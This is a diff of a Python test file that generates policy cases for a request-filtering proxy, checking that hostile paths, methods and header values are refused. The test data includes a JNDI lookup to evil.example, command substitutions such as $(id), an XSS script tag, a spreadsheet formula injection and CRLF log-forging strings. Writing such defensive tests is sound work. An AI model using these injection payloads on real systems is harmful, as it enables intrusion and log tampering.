@@ -44,19 +44,20 @@ def loops():
 def logs():
     for path, code in [("/repos/%0d%0a2026-01-01T00:00:00Z%20allowed", "path_refused"), ("/repos/%1b[2J", "path_refused"), ("/x%22,%22verdict%22:%22allowed%22", "path_not_allowed"),
                        ("/x\",\"verdict\":\"allowed", "path_not_allowed"), ("/%e2%80%ae/x", "path_not_allowed"), ("/%c2%9b31m", "path_not_allowed"), ("/x%0a", "path_refused"),
-                       ("/%f0%9f%92%a9", "path_not_allowed"), ("/{}[]", "path_not_allowed"), ("/'-'--", "path_not_allowed"), ("/$(id)", "path_not_allowed"), ("/`id`", "path_not_allowed"),
-                       ("/<script>alert(1)</script>", "path_not_allowed"), ("/$%7Bjndi:ldap://evil.example/x%7D", "path_not_allowed"), ("/%25n%25s", "path_not_allowed"), ("/" + "a" * 3000, "path_not_allowed"),
+                       ("/%f0%9f%92%a9", "path_not_allowed"), ("/{}[]", "path_not_allowed"), ("/'-'--", "path_not_allowed"), ("/$(id)", "path_not_allowed"), ("/`id`", "malformed_request"),
+                       ("/<script>alert(1)</script>", "malformed_request"), ("/$%7Bjndi:ldap://evil.example/x%7D", "path_not_allowed"), ("/%25n%25s", "path_not_allowed"), ("/" + "a" * 3000, "path_not_allowed"),
                        ("/%80%81%fe%ff", "path_not_allowed"), ("/=cmd|'/c calc'!A1", "malformed_request")]:
         add("policy", "log", f"the path {path[:60]}", "what a decision says is one line of plain text, whatever was asked", request(NARROW, path), refused(code),
             guest={"refused": "sandbox:path"} if code == "malformed_request" else None)
     for method in ["GET\"", "A" * 2000, "\u001b[31m", "GET%0d%0a", "=1+1", "${x}", "a'b"]:
         legal = all(ch.isalnum() or ch in "!#$%&'*+-.^_`|~" for ch in method)
         add("policy", "log", f"the method {method[:20]!r}", "what a decision says is one line of plain text, whatever was asked", request(NARROW, "/repos/x", method=method),
-            refused(["method_not_allowed"] if legal else ["malformed_request"]), guest=None if legal else {"refused": "sandbox:method"})
+            refused(["method_not_allowed"] if legal else ["malformed_request"]), guest=None if legal else {"refused": "sandbox:method"}, listener=refused("malformed_request") if len(method) > 32 else None)
     for name in ["user-agent", "referer", "x-log"]:
         for value, code in [("x\r\nx-injected: 1", None), ("x\nallowed", None), ("\x1b]0;title\x07", None), ("x\x00y", None)]:
             add("policy", "log", f"{name}: {value!r}", "a value cannot end its line, in no message and in no log", request(GRANTED, headers=[[name, value]]),
-                refused(["malformed_request"]), guest={"refused": "sandbox:set of headers"})
+                refused(["malformed_request"]), guest={"refused": "sandbox:set of headers"},
+                listener={"cannot": "two lines of a message are two fields, and this is how a client writes them"} if "\r\n" in value else None)
 
 
 def clients():
